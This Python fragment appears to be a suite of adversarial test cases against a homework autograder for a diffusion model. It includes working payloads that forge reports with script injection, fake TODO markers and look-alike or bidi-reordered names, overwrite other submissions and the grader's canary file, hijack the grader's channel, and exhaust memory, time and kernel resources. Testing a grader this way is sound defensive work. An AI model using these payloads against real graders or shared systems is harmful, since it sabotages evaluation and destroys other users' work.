        raise Shown
        """,
    ),
    _q_sample(
        "stub-imitated",
        "raises what an undone TODO raises, to look untouched",
        'raise NotImplementedError("TODO 1-2: q_sample")',
        sentence="not done yet",
    ),
    Attack(
        "lines-forged",
        "gives the reports lines of source that it never had",
        "solution",
        5.5,
        code="""
        import linecache
        linecache.getline = lambda *args: "<script>alert(1)</script>\\x1b[2J" * 100
        """,
        bodies={"q_sample": "raise ValueError('look at my line')"},
        sentence="look at my line",
    ),
)

FILES = (
    Attack(
        "todo-marks-moved",
        "moves the TODO marks around code that was given",
        "stub",
        0.0,
        edits=(
            (
                "######## TODO 1-2: q_sample ########",
                "######## END TODO ########\n        ######## TODO 1-2: p_sample ########",
            ),
        ),
    ),
    _stub(
        "todo-marks-faked",
        "repeats the marks of a TODO around an answer in another place",
        '''
        def q_sample(self, x0, t, noise=None):
            ######## TODO 1-2: q_sample ########
            return x0
            ######## END TODO ########
        """
        ### BEGIN SOLUTION
        ### END SOLUTION
        ### STUB: pass
        """
        ''',
    ),
    _stub(
        "look-alike-names",
        "defines DiffusionModule once more with a Cyrillic letter, and names that Python folds into others",
        """
        class DiffusionModul\u0435(nn.Module):
            def q_sample(self, x0, t, noise=None):
                return x0
        \uff51_sample = DiffusionModul\u0435.q_sample
        """,
    ),
    Attack(
        "text-that-runs-backwards",
        "hides code behind characters that reorder the line",
        "stub",
        0.0,
        code="access = 'user\u202e \u2066# only for staff\u2069 \u2066'\n",
    ),
    _stub(
        "submissions-of-others-edited",
        "edits the files of other submissions and of later workers",
        """
        import glob, os
        here = os.getcwd()
        for name in glob.glob("../*/*.py") + glob.glob("/tmp/autograder-*/*/*.py"):
            if os.path.dirname(os.path.abspath(name)) != here:
                open(name, "w").write("raise SystemExit")
                print("found", name)
        for folder in ("..", "/", "/tmp", "@REPOSITORY@"):
            try:
                open(folder + "/ddpm.py", "x").write("raise SystemExit")
            except OSError as error:
                print(error.strerror)
        """,
        needs="files",
    ),
    _solved(
        "own-file-rewritten",
        "replaces its own file on disk after it was compared",
        """
        open(__file__, "w").write("raise SystemExit")
        open("network.py", "w").write("raise SystemExit")
        """,
    ),
    _stub(
        "canary-overwritten",
        "overwrites and removes a file of the grader's user",
        """
        import os
        for action, *more in ((open, "w"), (os.remove,), (os.chmod, 0), (os.truncate, 0), (os.rename, "@CANARY@2")):
            try:
                action("@CANARY@", *more)
                print("found")
            except OSError as error:
                print(error.strerror)
        """,
        sentence="No such file|Permission denied|not permitted|Read-only",
        needs="files",
    ),
)

_FIND_WORKER = (
    _FIND_CHANNEL
    + """
        import gc
        worker = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Worker" and hasattr(thing, "question"))
        def send(message):
            for channel in list(channels()):
                os.write(channel, wire.encode(message))
"""
)

# Against the grader itself: its memory, its time, its patience with odd values, and what the machine has only once.
HOUSE = (
    Attack(
        "answers-in-advance",
        "answers the questions that come next before they are asked, so that an input edited in place seems to be as it was",
        "solution",
        6.0,
        code=_FIND_WORKER
        + """
        class Mute:
            def __init__(self, real): self.real, self.drop = real, 0
            def recv(self, count): return self.real.recv(count)
            def sendall(self, data):
                if self.drop: self.drop -= 1
                else: self.real.sendall(data)
        worker.channel = Mute(worker.channel)
        honest = DiffusionModule.q_sample
        def q_sample(self, x0, t, noise=None):
            given = [x.clone() for x in (x0, t, noise)] if noise is not None else []
            out = honest(self, x0, t, noise)
            if given:
                for value in (out, *given):
                    send({"kind": "result", "question": worker.question, "value": worker.to_wire(value)})
                worker.channel.drop = 4
                x0.zero_()
            return out
        DiffusionModule.q_sample = q_sample
        """,
        sentence="a question that was not asked",
    ),
    _stub(
        "place-of-an-error-forged",
        "says that an error happened in a file whose name, and on a line whose text, fill the report",
        _FIND_WORKER
        + """
        where = ["f\\n" * 30000, 2**62, "g\\n" * 30000, "<script>" * 8000]
        send({"kind": "raised", "question": worker.question, "type": "E\\n" * 9000, "message": "m\\n" * 9000, "where": where})
        """,
        sentence="raised E E|a question that was not asked",  # one form of t, and the next one
    ),
    *(
        Attack(
            identifier,
            tries,
            "solution",
            4.5,  # all of task 1-2 but p_sample
            bodies={
                "p_sample": f"for k in range(90):\n    try:\n        {call}\n    except RuntimeError:\n        pass\nreturn xt"
            },
            sentence="more than .* numbers in one check|too large|p_sample",
            seconds=10.0,
        )
        for identifier, tries, call in (
            (
                "rows-without-columns",
                "calls the network with millions of rows and no column, which are no bytes to send and a time for each to keep",
                "self.network(torch.empty(8_000_000, 0), k)",
            ),
            (
                "more-rows-without-columns",
                "the same with as many rows as a frame may claim",
                "self.network(torch.empty(67_000_000, 0, dtype=torch.uint8), k)",
            ),
            (
                "bytes-that-are-widened",
                "calls the network with bytes, each of which becomes a number of eight",
                "self.network(torch.full((30_000_000, 1), k, dtype=torch.uint8), k)",
            ),
            (
                "calls-that-are-kept",
                "calls the network again and again with as much as one call may hold",
                "self.network(torch.full((2, 4_000_000), k, dtype=torch.float32), k)",
            ),
        )
    ),
    _q_sample(
        "bytes-returned",
        "returns 64 million bytes, each of which becomes a number of eight",
        "return torch.zeros(32_000_000, dtype=torch.uint8)",
        sentence="shape",
        seconds=10.0,
    ),
    Attack(
        "layers-that-take-their-time",
        "takes almost the time of a call to tell the size of each of its layers",
        "solution",
        1.0,  # the shape of the output, which asks no layer
        network="""
        import time
        class Slow(TimeLinear):
            def __getattribute__(self, name):
                if name in ("dim_in", "dim_out"):
                    time.sleep(0.9)
                return super().__getattribute__(name)
        slow = Slow(3, 16, 20)
        SimpleNet.modules = lambda self: iter([slow] * 5)
        """,
        task="1-1",
        sentence="2 seconds were over that one check may take",
        limits={"seconds_per_check": 2.0, "seconds_per_task": 5.0},
    ),
    _solved(
        "every-call-sleeps",
        "sleeps in every call for almost as long as a call may take",
        """
        import time
        def slowed(honest):
            def function(*args, **kwargs):
                time.sleep(0.8)
                return honest(*args, **kwargs)
            return function
        for name in ("q_sample", "p_sample", "p_sample_loop"):
            setattr(DiffusionModule, name, slowed(getattr(DiffusionModule, name)))
        """,
        sentence="seconds were over that",
        limits={"seconds_per_check": 2.0, "seconds_per_task": 5.0},
    ),
    _stub(
        "programs-that-hold-memory",
        "starts twelve programs, each of which holds less than a fork of the worker has from the beginning",
        """
        import subprocess, sys, time
        code = "import time; kept = bytearray(b'x' * (60 << 20)); print('ready', flush=True); time.sleep(60)"
        started = [subprocess.Popen([sys.executable, "-I", "-S", "-c", code], stdout=subprocess.PIPE) for _ in range(12)]
        for process in started:
            process.stdout.readline()
        time.sleep(60)
        """,
        sentence="too much memory",
        seconds=20.0,
        limits={"memory_megabytes": 512},
    ),
    _stub(
        "shared-pages-let-go",
        "fills shared memory and takes it out of its page table, where it stays and nobody counts it",
        """
        import mmap
        held = []
        for _ in range(4):
            shared = mmap.mmap(-1, 32 << 20)
            shared.write(b"x" * len(shared))
            shared.madvise(mmap.MADV_DONTNEED)
            held.append(shared)
        """,
        sentence="PermissionError",
        needs="network",
    ),
    _stub(
        "contexts-of-the-machine",
        "takes contexts for asynchronous input and output, of which the machine has a fixed number",
        """
        import ctypes, os, platform
        libc = ctypes.CDLL(None, use_errno=True)
        number = 206 if platform.machine() == "x86_64" else 0
        print("found" if libc.syscall(number, ctypes.c_uint(500), ctypes.byref(ctypes.c_ulong(0))) == 0 else os.strerror(ctypes.get_errno()))
        """,
        sentence="not permitted",
        needs="network",
    ),
    _stub(
        "files-of-others-locked",
        "locks a file of Python that everybody may read",
        """
        import fcntl, os
        fcntl.flock(os.open(os.__file__, os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB)
        """,
        sentence="PermissionError",
        needs="network",
    ),
    _stub(
        "sessions-of-its-own",
        "starts a session for each of its processes, for a share of the processors each",
        """
        import os
        os.setsid()
        """,
        sentence="PermissionError",
        needs="network",
    ),
    Attack(
        "size-that-is-a-list",
        "tells the size of a layer as a list",
        "solution",
        1.0,
        network="TimeLinear.dim_in = property(lambda self: [1, 2], lambda self, value: None)\n",
        task="1-1",
        sentence="dim_in of a TimeLinear must be a whole number",
    ),
    Attack(
        "size-without-end",
        "tells the size of a layer as 2^40",
        "solution",
        1.0,
        network="TimeLinear.dim_in = property(lambda self: 2**40, lambda self, value: None)\n",
        task="1-1",
        sentence="dim_in of a TimeLinear must be a whole number",
    ),
    Attack(
        "time-that-is-no-number",
        "calls the network at t = NaN",
        "solution",
        0.0,
        bodies={"compute_loss": 't = torch.full((x0.shape[0],), float("nan"))\nreturn self.network(x0, t).mean()'},
        task="1-4",
        sentence="finite|NaN",
    ),
    Attack(
        "gradient-without-numbers",
        "has an empty gradient",
        "solution",
        4.5,  # all but the check of the gradient
        code="""
        class Wrapped(nn.Module):
            def __init__(self, network):
                super().__init__()
                self.kept = [network]
                self.scale = type("Scale", (), {"grad": torch.empty(0)})()
            def forward(self, *args):
                return self.kept[0](*args)
        honest = DiffusionModule.__init__
        def replaced(self, network, var_scheduler, **more):
            honest(self, network, var_scheduler)
            self.network = Wrapped(network)
        DiffusionModule.__init__ = replaced
        DiffusionModule.device = property(lambda self: "cpu")
        """,
        task="1-4",
        sentence="gradient",
    ),
)

ATTACKS = (*RESULTS, *SECRETS, *PATCHES, *ENDINGS, *FLOODS, *NETWORK, *CHANNEL, *ANSWERS, *WORDS, *FILES, *HOUSE)
